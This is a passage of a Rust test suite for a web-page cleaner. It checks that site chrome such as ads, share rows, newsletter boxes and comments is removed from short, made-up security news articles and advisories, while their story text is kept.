**Severity:** Critical | **State:** Exploited in the wild

A flaw in the web part of the gateway lets a remote attacker skip the login and run commands, and attacks have been seen since Monday.
";
    let c = clean(page, "Weekly bulletin", &no_rules());
    assert_kept(
        &c,
        &["**Severity:** Critical | **State:** Exploited in the wild"],
    );
}

#[test]
fn keeps_a_lead_photo_caption_that_repeats_its_alt_text() {
    let page = "\
# Insurer confirms breach

[Share on Facebook](https://www.facebook.example/share?u=breach)

![The insurer's head office in Stellenbosch](https://news.example/img/office.jpg)

The insurer's head office in Stellenbosch. Photo: Archive

The insurer said on Sunday that attackers had reached the personal details of about a million current and former customers of its policies.

![Illustration](https://news.example/img/stock.jpg)

Illustration. Photo: Shutterstock

The company said it would not negotiate with the gang that claimed the theft and that it had told the regulator and the police.
";
    let c = clean(page, "Insurer confirms breach", &no_rules());
    assert_kept(
        &c,
        &[
            "office.jpg",
            "The insurer's head office in Stellenbosch. Photo: Archive",
            "would not negotiate",
        ],
    );
    assert_gone(&c, &["Share on Facebook"]);
}

#[test]
fn drops_the_ad_label_and_a_read_also_line_in_khmer_and_lao() {
    let page = "\
# Bank warns of fake messages

The bank warned its customers on Tuesday about text messages that claim their accounts are frozen and send them to a fake login page.

ពាណិជ្ជកម្ម

More than three hundred customers have reported losing money in the last week, the bank's security team said in a statement.

ໂຄສະນາ

អានបន្ថែម៖ [ក្រុមហ៊ុនទូរគមនាគមន៍ ពង្រឹងការផ្ទៀងផ្ទាត់ស៊ីមកាត](https://news.example/technology/sim-verification)

The bank said it never asks for a password or a one-time code by message or by phone, and that customers should report such messages.

[Home](https://news.example/) [Contact](https://news.example/contact)
";
    let c = clean(page, "Bank warns of fake messages", &no_rules());
    assert_kept(&c, &["frozen", "three hundred", "one-time code"]);
    assert_gone(&c, &["ពាណិជ្ជកម្ម", "ໂຄສະນາ", "sim-verification"]);
}

#[test]
fn drops_a_player_button_with_its_length() {
    let page = "\
# Tax office phishing

A new wave of text messages that pretend to come from the tax office reached thousands of phones in the region this week, the agency said.

Escoitar ▶ 24:10

The messages link to a page that copies the tax office's own and asks for a card number to pay back a supposed refund.

* Version 2.4: fixed in 10:30 build
";
    let c = clean(page, "Tax office phishing", &no_rules());
    assert_kept(
        &c,
        &["thousands of phones", "supposed refund", "fixed in 10:30"],
    );
    assert_gone(&c, &["Escoitar"]);
}

#[test]
fn drops_a_plain_label_over_the_site_headlines_between_paragraphs() {
    let page = "\
# Hospital hit by ransomware

[Home](https://news.example/) [Social](https://news.example/social)

The private hospital's patient registry and pharmacy systems stopped working after an attack on Friday night, staff said on Monday.

\"We will not pay the criminals and we have told the authorities,\" the hospital's director said.

Our picks for you:

1. [Rice prices reach their highest level in five years](https://news.example/economy/rice)
2. [What is new at this year's festival in the capital](https://news.example/social/festival)

Patients can still be treated as usual, but registration and billing are done by hand for now.

The steps taken:

* [Disconnect the servers](https://news.example/guide/disconnect)
* [Restore the backups](https://news.example/guide/restore)

The hospital expects its systems back within the week, once the backups are checked.

[Home](https://news.example/) [Contact](https://news.example/contact)
";
    let c = clean(page, "Hospital hit by ransomware", &no_rules());
    assert_kept(
        &c,
        &[
            "will not pay",
            "by hand for now",
            "The steps taken:",
            "Disconnect the servers",
            "within the week",
        ],
    );
    assert_gone(&c, &["Our picks for you:", "Rice prices", "festival"]);
}

#[test]
fn drops_the_line_that_closes_an_ad_slot() {
    let page = "\
# Insurer confirms breach

The insurer said on Sunday that attackers had reached the personal details of about a million current and former customers of its policies.

Advertisement

[![Advertisement](https://news.example/banners/300x250.jpg)](https://news.example/klik?id=4410)

Advertisement ends here

The company said it would not negotiate with the gang that claimed the theft and that it had told the regulator and the police.

Advertising revenue fell.

The insurer's share price fell by four per cent on the news in early trading on Monday, before recovering by the close.
";
    let c = clean(page, "Insurer confirms breach", &no_rules());
    assert_kept(
        &c,
        &[
            "personal details",
            "would not negotiate",
            "Advertising revenue fell.",
            "four per cent",
        ],
    );
    assert_gone(&c, &["Advertisement ends here", "300x250"]);
}

#[test]
fn a_share_row_with_a_messengers_send_link_ends_the_story() {
    let page = "\
# Fake job app steals passports

Researchers found that an app offering jobs abroad uploads the passports, contacts and messages of everyone who installs it to a server run by its authors.

About eight thousand people downloaded it in two months, the researchers said, most of them through links in group chats and in adverts on social networks that promised visas within a week.

The app asks for photos of both sides of the passport to \"complete the application\", then reads the contacts and text messages of the phone and sends them every fifteen minutes.

[WhatsApp](https://wa.example/send?text=jobs-app) · [Facebook](https://www.facebook.example/sharer?u=jobs-app)

Asha Menon, senior security correspondent, writes about mobile fraud, privacy and the scams that reach people through their phones.

### What our readers say

My cousin got the same link in a group chat last week and almost installed it before asking me about it.

Thanks for the list of domains, we have blocked all of them on the office firewall this morning.
";
    let c = clean(page, "Fake job app steals passports", &no_rules());
    assert_kept(&c, &["uploads the passports", "eight thousand"]);
    assert_gone(
        &c,
        &[
            "WhatsApp",
            "senior security correspondent",
            "My cousin",
            "firewall",
        ],
    );
}

#[test]
fn drops_the_question_over_a_row_of_reactions() {
    let page = "\
# Fake job app steals passports

Researchers found that an app offering jobs abroad uploads the passports, contacts and messages of everyone who installs it to a server run by its authors.

What did the police say?

The state's cyber police asked people applying for jobs abroad to go through licensed agencies and never to install apps sent in chats.

How do you feel about this story?

👍 142 · 😮 37 · 😡 12

The app is not on the official store, and the researchers have asked the hosting company to take its server down.
";
    let c = clean(page, "Fake job app steals passports", &no_rules());
    assert_kept(
        &c,
        &[
            "uploads the passports",
            "What did the police say?",
            "licensed agencies",
            "official store",
        ],
    );
    assert_gone(&c, &["How do you feel", "👍"]);
}

#[test]
fn a_threads_headers_may_open_with_a_vote_arrow() {
    let page = "\
[▲](https://forum.example/vote?id=1&how=up) [Show: signature wrapping in a CI server's SAML login](https://forum.example/item?id=1)

Here is the write-up we promised when we reported the bug: the service verified the signature on the first assertion of a response and read the user from the last one.

Fixed releases shipped yesterday, and the advisory is now public with the list of affected versions.

[▲](https://forum.example/vote?id=2&how=up) [tessellate](https://forum.example/user?id=tessellate) [6 hours ago](https://forum.example/item?id=2)

Every bug of this kind comes down to verifying one node and then reading another one from the document.

[▲](https://forum.example/vote?id=3&how=up) [kmhollis](https://forum.example/user?id=kmhollis) [6 hours ago](https://forum.example/item?id=3)

Yes, and their fix now passes the verified element on to the session code.

[▲](https://forum.example/vote?id=4&how=up) [orbweaver](https://forum.example/user?id=orbweaver) [5 hours ago](https://forum.example/item?id=4)

Is there a way to tell whether we were hit before the patch went out last month?
";
    let c = clean(
        page,
        "Show: signature wrapping in a CI server's SAML login",
        &no_rules(),
    );
    assert_kept(&c, &["verified the signature", "advisory is now public"]);
    assert_gone(
        &c,
        &[
            "tessellate",
            "Every bug of this kind",
            "their fix now",
            "hit before",
        ],
    );
}

#[test]
fn drops_a_bracketed_button_and_a_rule_after_the_story() {
    let page = "\
# Signature wrapping in a CI server's SAML login

The service verified the signature on the first assertion of a response and read the user from the last one, so any signed login could become an administrator's.

Fixed releases shipped yesterday, and the advisory is now public with the list of affected versions.

[add comment]

---

[Guidelines](https://forum.example/guidelines) | [FAQ](https://forum.example/faq) | [Lists](https://forum.example/lists)
";
    let c = clean(
        page,
        "Signature wrapping in a CI server's SAML login",
        &no_rules(),
    );
    assert_kept(&c, &["verified the signature", "advisory is now public"]);
    assert_gone(&c, &["[add comment]", "---"]);
}

#[test]
fn a_read_also_label_may_end_with_a_dash() {
    let page = "\
# Bank warns of phishing over messengers

Messages that threaten to close the reader's account within a day send a link to a fake login page of the bank, which asks for the phone number, the password and the one-time code.

More news – [Police arrest a gang that emptied mobile money accounts](https://news.example/local/2026/10/30/mobile-money-gang)

The bank has asked the registrars to take the fake domains down and says it never sends links over messengers.
";
    let c = clean(page, "Bank warns of phishing over messengers", &no_rules());
    assert_kept(&c, &["fake login page", "never sends links"]);
    assert_gone(&c, &["More news", "mobile money"]);
}

#[test]
fn a_byline_with_the_date_and_a_count_of_comments_is_the_pages_data() {
    let page = "\
# Password manager breach: encrypted vaults stolen

Afiŝita la 17-an de novembro 2026 de **Jorge Almeida** en [Teknologio](https://blog.example/kategorio/teknologio/) · [7 komentoj](#komentoj)

The password manager confirmed on Monday that attackers had copied backups of its customers' encrypted vaults from a cloud storage bucket.

The vaults are encrypted with a key derived from each user's master password, which the company says it never stores.
";
    let c = clean(
        page,
        "Password manager breach: encrypted vaults stolen",
        &no_rules(),
    );
    assert_kept(&c, &["copied backups", "never stores"]);
    assert_gone(&c, &["Afiŝita", "komentoj"]);
}

#[test]
fn a_channel_promo_may_name_its_platform_by_the_link_alone() {
    let page = "\
# Fake traffic fines spread a banking trojan

Drivers receive a message saying a fine is pending on their vehicle, with an app attached that asks for permission to read their text messages and then steals the one-time codes sent by their bank.

📢 **Join our channel** — the latest news straight to your phone. [Follow](https://wa.example/channel/dailynews)

The police said the fines are only ever shown on the government's own website and that no department sends apps over messengers.
";
    let c = clean(
        page,
        "Fake traffic fines spread a banking trojan",
        &no_rules(),
    );
    assert_kept(&c, &["fine is pending", "government's own website"]);
    assert_gone(&c, &["Join our channel"]);
}

#[test]
fn drops_a_registration_box_between_two_rules() {
    let page = "\
# Insurers brace for losses after payroll breach

Cyber insurers are preparing for what could become the market's first large aggregation event of the year, after a payroll provider used by thousands of small firms confirmed a breach.

---

**You've read 1 of 3 free articles this month.**

Register for free to keep reading and get our daily briefing.

[Register for free](https://news.example/register?returnTo=payroll) · Already registered? [Sign in](https://news.example/sign-in)

---

## A test for the wordings

The incident is likely to be the first real test of the systemic-event definitions that many carriers introduced in the last two years.

---

Both modelling firms stressed that their numbers are preliminary and depend on how many firms had offline backups.
";
    let c = clean(
        page,
        "Insurers brace for losses after payroll breach",
        &no_rules(),
    );
    assert_kept(
        &c,
        &[
            "aggregation event",
            "A test for the wordings",
            "first real test",
            "offline backups",
        ],
    );
    assert_gone(&c, &["free articles", "keep reading", "Sign in"]);
}

#[test]
fn a_headless_table_of_the_pages_date_and_reference_is_no_table_of_facts() {
    let notice = "\
# Pharmacy chain fined after ransomware attack

| | |
|---|---|
| Date | 18 November 2026 |
| Type | Monetary penalty notice |
| Reference | ENF-2026-0417 |

The regulator has fined a pharmacy chain for failing to protect the personal information of a million customers after a ransomware attack in February.

The attackers got in through a VPN appliance that had not been updated for fourteen months, the investigation found.
";
    let c = clean(
        notice,
        "Pharmacy chain fined after ransomware attack",
        &no_rules(),
    );
    assert_kept(&c, &["has fined a pharmacy chain", "fourteen months"]);
    assert_gone(
        &c,
        &[
            "18 November 2026",
            "Monetary penalty notice",
            "ENF-2026-0417",
        ],
    );
    // An advisory's table names what it is about, and stays.
    let advisory = "\
# Gateway flaw exploited

| | |
|---|---|
| Published | 18 November 2026 |
| CVE | CVE-2026-41877 |
| Severity | Critical |

The vendor released a firmware update for a command injection flaw that a botnet is already exploiting on exposed devices.

Devices that no longer receive updates should be replaced, the vendor said in its advisory.
";
    let c = clean(advisory, "Gateway flaw exploited", &no_rules());
    assert_kept(
        &c,
        &[
            "| CVE | CVE-2026-41877 |",
            "| Severity | Critical |",
            "command injection",
        ],
    );
}

#[test]
fn drops_a_players_controls_and_the_title_over_them_in_any_digits() {
    let page = "\
# Mobile operator blames botnet for outage

The operator said its network was flooded with traffic from hijacked home routers for most of Sunday afternoon, cutting off data for millions.

🎙️ **Our podcast, episode 12: Why your router may be part of a botnet?**

▶ ٠٠:٠٠ / ١٨:٤٠ · [Download](https://news.example/podcast/12.mp3)

The regulator said it would ask the operator for a full report on the outage within two weeks.
";
    let c = clean(
        page,
        "Mobile operator blames botnet for outage",
        &no_rules(),
    );
    assert_kept(&c, &["hijacked home routers", "full report"]);
    assert_gone(&c, &["Our podcast", "Download"]);
}

#[test]
fn drops_a_bare_credit_under_a_photo_in_any_language() {
    let page = "\
# Port operator hit by ransomware

The port operator said on Monday that ransomware had stopped its booking system over the weekend and that ships were being handled by hand.

![Cranes at the container terminal](https://news.example/img/cranes.jpg)

Kuva: Satamalehti / Aino Virtanen

Trucks queued for hours at the gates while staff wrote out the paperwork for each container.

![The booking office on Monday](https://news.example/img/office.jpg)

The booking office on Monday. Kuva: Aino Virtanen

Note: updated at noon

The operator expects the system back by Wednesday.
";
    let c = clean(page, "Port operator hit by ransomware", &no_rules());
    assert_kept(
        &c,
        &[
            "by hand",
            "Trucks queued",
            "The booking office on Monday. Kuva",
            "Note: updated at noon",
            "back by Wednesday",
        ],
    );
    assert_gone(&c, &["Satamalehti"]);
}

#[test]
fn drops_a_newsletter_box_between_two_rules_but_not_a_link_to_an_issue() {
    let page = "\
# Ministry opens a register of data breaches

The ministry will keep a public register of every breach reported to it, starting next month, the deputy minister told parliament on Tuesday.

---

**Get the morning briefing**

Free, every weekday, no ads.

[Sign me up](https://news.example/newsletter?from=box)

---

Companies will have three days to report a breach, as our [newsletter of last week](https://news.example/newsletter/2026-11-02) explained in detail.

The register will name the company, the date and the kind of data exposed, but not the number of people affected.
";
    let c = clean(
        page,
        "Ministry opens a register of data breaches",
        &no_rules(),
    );
    assert_kept(
        &c,
        &[
            "public register",
            "newsletter of last week",
            "not the number",
        ],
    );
    assert_gone(&c, &["morning briefing", "no ads", "Sign me up"]);
}

#[test]
fn a_question_with_buttons_that_stay_on_the_page_opens_the_footer_in_any_language() {
    let page = "\
# Bank warns of fake prize channels

The bank said on Monday that more than a thousand customers had reported money taken from their wallets after typing their codes into a fake prize bot.

Is your phone affected? Researchers said the bots ask for the code sent by text message, so anyone who typed it in should change their PIN at once.

The bank has not said whether it will refund the customers.

ይህ ዜና ጠቃሚ ነበር? [👍 አዎ](#yes) [👎 አይደለም](#no)

## ተዛማጅ ቪዲዮዎች

* [How to spot a fake bot](https://news.example/video/bots) (6:12)
* [Interview: cyber attacks on banks](https://news.example/video/interview) (14:55)
";
    let c = clean(page, "Bank warns of fake prize channels", &no_rules());
    assert_kept(
        &c,
        &["more than a thousand", "Is your phone affected?", "refund"],
    );
    assert_gone(&c, &["ጠቃሚ", "ተዛማጅ", "fake bot", "Interview"]);
}

#[test]
fn drops_copy_buttons_labelled_hashtags_and_a_credit_after_another_scripts_colon() {
    let page = "\
# Vendor fixes a login bypass

The vendor released a fix on Monday for a flaw that let anyone past the login page of its gateways when single sign-on was on.

![A gateway in a rack](https://news.example/img/gateway.jpg)

*Լուսանկարը՝ Թվային Լուր*

Back up the configuration first, from the command line:

Copy

```
fl-cli system backup create
```

Then apply the image and reboot; the gateway is down for about four minutes while it restarts.

**Teglar:** #kiberxavfsizlik #CVE #patch
";
    let c = clean(page, "Vendor fixes a login bypass", &no_rules());
    assert_kept(
        &c,
        &["single sign-on", "Back up", "backup create", "four minutes"],
    );
    assert_gone(&c, &["Լուսանկարը", "Copy\n", "Teglar", "#CVE"]);
}

#[test]
fn drops_a_box_between_two_rules_whose_button_asks_for_the_sign_up() {
    let page = "\
# Council restores online payments

The council has restored council tax payments online and the planning portal, two weeks after the ransomware attack on its systems.

---

**Get email updates about this incident.** [Sign up for alerts](https://alerts.example/council/incident)

---

Criminals sometimes use news of an attack to contact people pretending to be the council, so residents should hang up and call back.
";
    let c = clean(page, "Council restores online payments", &no_rules());
    assert_kept(&c, &["planning portal", "hang up and call back"]);
    assert_gone(&c, &["Get email updates", "Sign up for alerts"]);
}

#[test]
fn a_labelled_row_of_hashtags_after_the_story_ends_it_and_a_posts_own_do_not() {
    let page = "\
# SIM-swap fraud rises

Police said more than a hundred people lost money in a month after fraudsters had their phone numbers moved to new SIM cards at operators' shops with forged papers.

The operators said they would add face checks to SIM swaps from next month, and asked customers to set a PIN on their accounts at the shop.

We saw this at #work too and #infosec teams should know, one reader wrote to the paper on Monday about the case.

Tags: #sim #fraud #banks

### Comments (12)

**Guest** · 2026.10.21 10:14

Same thing happened to my brother, the bank never paid him back.
";
    let c = clean(page, "SIM-swap fraud rises", &no_rules());
    assert_kept(&c, &["forged papers", "set a PIN", "one reader wrote"]);
    assert_gone(&c, &["Tags:", "Comments (12)", "my brother"]);
}

#[test]
fn an_advisorys_sidebar_after_its_closing_code_goes_and_its_references_stay() {
    let page = "\
# Path traversal in tarfold

A path traversal flaw in `tarfold` before 4.2.1 lets a crafted archive write files anywhere the extracting process can write.

### References

- [Fix commit 9e41c7b](https://forge.example/q/tarfold/commit/9e41c7b)
- [Release notes for 4.2.1](https://forge.example/q/tarfold/releases/tag/v4.2.1)
- [CVE-2026-51230](https://cve.example/CVE-2026-51230)

### Workarounds

If you cannot upgrade, enable strict mode before extraction:

```js
await tarfold.extract(archive, { strict: true });
```

### Severity

High **8.1** / 10

### CVE ID

CVE-2026-51230

### Weaknesses

[CWE-22](https://cwe.example/22.html)

### Credits

- [tomasz](https://forge.example/tomasz) · Reporter
";
    let c = clean(page, "Path traversal in tarfold", &no_rules());
    assert_kept(
        &c,
        &["crafted archive", "Release notes for 4.2.1", "strict: true"],
    );
    assert_gone(&c, &["Severity", "8.1", "CVE ID", "Weaknesses", "Reporter"]);
}

#[test]
fn a_converted_documents_numbered_page_footers_and_its_sharing_statement_go() {
    let page = "\
# Security Advisory VL-2026-041

**Summary.** The centre is aware of active exploitation of an authentication bypass in gateway appliances, and asks their operators to update now.

CERT-VL — Security Advisory VL-2026-041 — Page 1 of 3

The vulnerability resides in the web management interface, where a crafted request yields an administrative session without any credentials.

CVSS score: 9.8

CERT-VL — Security Advisory VL-2026-041 — Page 2 of 3

Update all affected appliances to the fixed version without delay, and reset every credential stored on them.

CVSS score: 7.5

The second flaw lets a signed-in user read other users' session files through the same interface.

CVSS score: 5.3

The vendor fixed both flaws in the same release, which the centre asks operators to install this week.

This advisory is provided \"as is\" for informational purposes.

TLP:CLEAR — Recipients may share this information without restriction.

CERT-VL — Security Advisory VL-2026-041 — Page 3 of 3
";
    let c = clean(page, "Security Advisory VL-2026-041", &no_rules());
    assert_kept(
        &c,
        &[
            "crafted request",
            "without delay",
            "CVSS score: 9.8",
            "CVSS score: 5.3",
        ],
    );
    assert_gone(
        &c,
        &[
            "Page 1 of 3",
            "Page 2 of 3",
            "Recipients may share",
            "Page 3",
        ],
    );
}

#[test]
fn a_forums_numbered_posts_end_the_first_with_the_next_posters_card() {
    let page = "\
# Our office router was turned into a proxy node

**[kestrel](https://forum.example/members/kestrel.1/)**
Senior Member
Joined: Mar 2019 · Messages: 1,482

Nov 18, 2026 · #1

We run IT for a small practice with one router, and last month our ISP sent an abuse notice about credential stuffing from our address.

The router had an extra admin account, remote management switched on for the WAN side and a proxy binary listening on a high port.

Tip #2 for everyone: turn off remote management unless you truly need it.

**Edit (Nov 20):** the vendor has confirmed the bypass and says a fix is coming next month.

Hope it helps.

---
*Keep your firmware current. · [my notes](https://notes.example/)*

▲ 57 ▼

---

**[bracken](https://forum.example/members/bracken.2/)**
Moderator
Joined: Jan 2015 · Messages: 12,309

Nov 18, 2026 · #2

Great write-up, moved to Incident Write-ups and pinned for a week, thanks for sharing it.

**[marisol](https://forum.example/members/marisol.3/)**
Member

Nov 19, 2026 · #3

Same binary name showed up on two routers at a client of ours, also on the old firmware.
";
    let c = clean(
        page,
        "Our office router was turned into a proxy node",
        &no_rules(),
    );
    assert_kept(
        &c,
        &["abuse notice", "Tip #2", "Edit (Nov 20)", "Hope it helps."],
    );
    assert_gone(
        &c,
        &[
            "Keep your firmware",
            "bracken",
            "Moderator",
            "Great write-up",
            "Same binary",
        ],
    );
}

#[test]
fn a_documents_control_table_under_its_title_goes_and_an_advisorys_facts_stay() {
    let control = "\
# Security Advisory VL-2026-041

| Advisory ID | VL-2026-041 |
|---|---|
| Version | 1.2 |
| First published | 7 October 2026 |
| Severity | Critical |

**Summary.** The centre is aware of active exploitation of an authentication bypass in gateway appliances, and asks their operators to update now.
";
    let c = clean(control, "Security Advisory VL-2026-041", &no_rules());
    assert_kept(&c, &["active exploitation"]);
    assert_gone(&c, &["Advisory ID", "First published"]);

    let facts = "\
# Security Advisory VL-2026-041

| Advisory ID | VL-2026-041 |
|---|---|
| CVE | CVE-2026-48117 |
| First published | 7 October 2026 |

**Summary.** The centre is aware of active exploitation of an authentication bypass in gateway appliances, and asks their operators to update now.
";
    let c = clean(facts, "Security Advisory VL-2026-041", &no_rules());
    assert_kept(&c, &["CVE-2026-48117", "active exploitation"]);
}

#[test]
fn callouts_named_by_a_quoted_heading_or_after_a_pictograph_go() {
    let page = "\
# Fake bank texts target savings customers

The messages tell customers their card is blocked and send them to a page that looks exactly like the bank's own login page.

> ### 📩 Our technology newsletter
> Every week, the most important security news in your inbox.
> [Sign up free](https://news.example/newsletters/tech)

The bank said the attackers use the code at once to move money abroad, and that customers lost between 300 and 4,500 euros.

> 🔒 **This story is for subscribers.** You have **2 free articles** left this month.
> [Subscribe from 199 a month](https://news.example/subscribe) | [Already a subscriber? Log in](https://news.example/login)

> \"The bank will never ask for a password by text message,\" said the adviser, who urged people to call the bank.

The bank will warn every customer through its official channels this week.
";
    let c = clean(
        page,
        "Fake bank texts target savings customers",
        &no_rules(),
    );
    assert_kept(
        &c,
        &[
            "card is blocked",
            "4,500 euros",
            "never ask",
            "official channels",
        ],
    );
    assert_gone(
        &c,
        &["newsletter", "Every week", "subscribers", "free articles"],
    );
}

#[test]
fn a_read_also_line_after_a_pictograph_and_khmers_advertisement_label_go() {
    let page = "\
# Banking trojan spreads through fake parcel texts

Analysts said the trojan reached more than two thousand phones in a month, sent as a link in texts about a delayed parcel.

📌 **Оқи отырыңыз:** [Telegram-дағы жалған жұмыс ұсыныстары: алаяқтар қалай алдайды](https://news.example/kz/a/2291)

ការផ្សាយពាណិជ្ជកម្ម

[![5G](https://ads.news.example/b/5g-728x90.jpg)](https://ads.news.example/go/3310)

The company advised installing apps only from the official store and refusing accessibility rights to unknown apps.
";
    let c = clean(
        page,
        "Banking trojan spreads through fake parcel texts",
        &no_rules(),
    );
    assert_kept(&c, &["two thousand phones", "official store"]);
    assert_gone(&c, &["Оқи", "ការផ្សាយ", "5g-728x90"]);
}

#[test]
fn a_contact_line_with_an_international_number_and_an_address_goes_after_the_story() {
    let page = "\
# Authentication bypass exploited in gateway appliances

The centre has observed exploitation against at least fourteen organisations since late September, including two municipal authorities.

Update all affected appliances to the fixed version without delay, and reset every credential stored on them afterwards.

### Contact

Incident Desk: +00 000 000 000 (24/7) · incident@cert.example
";
    let c = clean(
        page,
        "Authentication bypass exploited in gateway appliances",
        &no_rules(),
    );
    assert_kept(&c, &["fourteen organisations", "without delay"]);
    assert_gone(&c, &["Incident Desk", "### Contact"]);
}

#[test]
fn an_italic_caption_ending_with_its_credit_goes_and_other_captions_stay() {
    let page = "\
# Library systems offline after ransomware attack

![The library's door with a closed sign](https://news.example/media/library.jpg)

*The central library has been closed to loans since Friday.* Llun: Newyddion y Fro / Huw Gerallt

The council's library services have been offline for five days after attackers encrypted the servers that run its lending system.

![Infection chain](https://news.example/media/chain.png)

*Figure 1. The infection chain, from the phishing mail to the encryption.*

The council said it would not pay the ransom, and that the case has been passed to the police and the national cyber security centre.
";
    let c = clean(
        page,
        "Library systems offline after ransomware attack",
        &no_rules(),
    );
    assert_kept(
        &c,
        &["offline for five days", "Figure 1.", "not pay the ransom"],
    );
    assert_gone(&c, &["closed to loans", "Llun:"]);
}

#[test]
fn a_channel_promo_whose_button_names_the_platform_first_in_a_few_words_goes() {
    let page = "\
# Critical flaw in point-of-sale servers

The vendor fixed a flaw that lets anyone on the shop's network run commands on its point-of-sale server without signing in.

📢 Texnologiya yangiliklarini birinchilardan boʻlib oʻqing — [Telegram kanalimizga obuna boʻling](https://news.example/go/telegram)

Shops should install the update this week and block the server's management port from the rest of their network.
";
    let c = clean(page, "Critical flaw in point-of-sale servers", &no_rules());
    assert_kept(&c, &["without signing in", "management port"]);
    assert_gone(&c, &["kanalimizga"]);
}

#[test]
fn a_share_button_written_as_the_pages_own_query_is_a_share_button() {
    let page = "\
# Firewall VPN flaw exploited, admins report

Several admins report new local accounts on their firewalls after the vendor's SSL VPN flaw was made public last week.

**Edit:** the vendor has updated its advisory to say the flaw is exploited in limited attacks, and added indicators.

[Share](https://www.forum.example/r/sysadmin/comments/1kq7x2/?share=1) [Save](#) [Award](#)
";
    let c = clean(
        page,
        "Firewall VPN flaw exploited, admins report",
        &no_rules(),
    );
    assert_kept(&c, &["new local accounts", "limited attacks"]);
    assert_gone(&c, &["?share=1", "Award"]);
}

#[test]
fn a_feedback_question_with_pictograph_buttons_and_a_check_box_form_go() {
    let page = "\
# Mitigating the session bypass

This article describes how to detect and mitigate the authentication bypass in the management interface, which a remote attacker can use to obtain an administrative session.

## Resolution

Upgrade to a fixed version as soon as possible, then review every administrator account and reset the passwords of any account that logged in during the exposure window.

Was this section helpful? 👍 👎

## Workaround

Restrict access to the management interface to trusted networks only, which blocks exploitation from the internet but not from inside.

To check the version, run:

- [ ] show system version

Tell us how we can improve this article:
[ ] The information is inaccurate
[ ] The steps did not resolve my issue
[Your feedback (optional)]
Characters remaining: 1000

## More information

The vendor's advisory lists additional indicators of compromise, including two attacker addresses, and asks customers who find evidence to open a priority case.
";
    let c = clean(page, "Mitigating the session bypass", &no_rules());
    assert_kept(
        &c,
        &[
            "Upgrade to a fixed version",
            "## Workaround",
            "To check the version, run:",
            "- [ ] show system version",
            "additional indicators",
        ],
    );
    assert_gone(
        &c,
        &[
            "Was this section helpful?",
            "Tell us how",
            "[ ] The",
            "Your feedback",
            "Characters remaining",
        ],
    );
    // A question whose answer is one pictograph, or words, stays.
    let c = clean(
        &page.replace("Was this section helpful? 👍 👎", "Is it fixed? Yes 👍"),
        "Mitigating the session bypass",
        &no_rules(),
    );
    assert_kept(&c, &["Is it fixed? Yes 👍"]);
}

#[test]
fn an_unrolled_thread_runs_from_its_post_counted_first_to_its_post_counted_last() {
    let post = |k: usize| {
        format!(
            "Post {k}: the stealer drops a Python runtime and a scheduled task named after a browser updater, then sends the saved passwords to a rotating set of domains. {k}/4\n\n♥ 12 · ⟲ 3\n"
        )
    };
    let page = format!(
        "# Thread by @analyst\n\n**Ana Lyst** @analyst\nMalware analyst. Infostealers, bad coffee. Views my own.\n\n[Follow @analyst](https://social.example/intent/follow?screen_name=analyst)\n\n{}\n{}\n{}\n{}\n[Read on original site](https://social.example/analyst/status/1)\n\nEnjoyed this thread? [Follow @analyst](https://social.example/intent/follow?screen_name=analyst) for more.\n\n## Other unrolled threads\n\n- [Thread by @other: ten things I learned](https://unroll.example/thread/2) · 14 posts\n",
        post(1),
        post(2),
        post(3),
        post(4)
    );
    let c = clean(&page, "Thread by @analyst", &no_rules());
    assert_kept(&c, &["Post 1:", "Post 4:"]);
    assert_gone(
        &c,
        &[
            "Ana Lyst",
            "Views my own",
            "Follow @",
            "original site",
            "Other unrolled",
        ],
    );
    // A card whose bio reads as chrome ("follow me on ...") ends no story
    // that starts below it.
    let card_cue = page.replace(
        "Infostealers, bad coffee. Views my own.",
        "Infostealers, bad coffee. Follow me on Mastodon too.",
    );
    let c = clean(&card_cue, "Thread by @analyst", &no_rules());
    assert!(c.kept_original.is_none(), "{:?}", c.kept_original);
    assert_kept(&c, &["Post 1:", "Post 4:"]);
    assert_gone(&c, &["Ana Lyst", "Mastodon", "Other unrolled"]);
    // A story that quotes a thread after paragraphs of its own keeps them,
    // and its paragraphs after the thread.
    let story = format!(
        "# The stealer thread\n\nA researcher has described a new stealer in a thread on a social network this week, and the vendor she works for confirmed her findings on Tuesday.\n\n{}\n{}\n{}\n{}\nThe vendor says its customers are protected, and that it has shared the domains with the registrars, which took two of them down within a day.\n",
        post(1),
        post(2),
        post(3),
        post(4)
    );
    let c = clean(&story, "The stealer thread", &no_rules());
    assert_kept(
        &c,
        &["A researcher has described", "Post 1:", "The vendor says"],
    );
}

#[test]
fn an_ad_labelled_first_with_links_after_goes() {
    let page = "\
# Stealer spreads through fake updates

Compromised sites show a fake browser update that installs a stealer, which takes saved passwords and session cookies from finance staff.

Sponsored · [Stop infostealers before they start — try the product free for 30 days](https://ads.example/click?cid=1)

Werbung: [Jetzt testen](https://vendor.example/trial)

Sponsored content from vendors is labelled, the editor said, and the site's [ad policy](https://news.example/ads) explains how.

The stealer sends what it takes to a rotating set of domains and falls back to a messenger bot when all of them fail.
";
    let c = clean(page, "Stealer spreads through fake updates", &no_rules());
    assert_gone(&c, &["Stop infostealers", "Jetzt testen"]);
    assert_kept(&c, &["Sponsored content from vendors", "rotating set"]);
}

#[test]
fn a_button_that_reloads_the_page_with_another_query_goes() {
    let page = "\
# Outage live

Check-in systems at the airline have been down since the early hours after what the carrier calls a cyber incident at its IT supplier.

* [Part I: The outage](?page=1#toc-1)
* [Part II: The supplier](?page=2#toc-2)

[Show 5 more updates](?page=with:block-1610#liveblog)

The supplier says attackers logged in through a contractor's remote-access account that lacked multi-factor authentication, and that it has taken its departure control, baggage reconciliation and crew rostering systems offline as a precaution while it investigates with the help of two outside firms and the national cyber agency.
";
    let c = clean(page, "Outage live", &no_rules());
    assert_gone(&c, &["Show 5 more"]);
    assert_kept(&c, &["Part II: The supplier", "contractor's remote-access"]);
}

#[test]
fn the_pages_header_again_inside_the_story_goes_whole_or_in_pieces() {
    let page = "\
Translated from: **Polish** › **English**

[Show original](https://news.example/pl/story)

Rate this translation: ★ ★ ★ ★ ★

Security

# Parcel scam hits thousands

Since the end of October, users of all mobile networks have been receiving text messages that look like notifications from the parcel locker operator.

Translated from: **Polish** › **English** | [Show original](https://news.example/pl/story) | Rate this translation: ★ ★ ★ ★ ★

The link leads to a faithful copy of the operator's website, which asks for card data and then for the victim's bank login.

The police say more than three thousand people have reported a loss so far, the average being about six hundred euros.
";
    let c = clean(page, "Parcel scam hits thousands", &no_rules());
    assert_gone(&c, &["Translated from", "Rate this translation"]);
    assert_kept(&c, &["faithful copy", "three thousand"]);
}

#[test]
fn a_pictograph_badge_over_a_live_posts_time_goes() {
    let page = "\
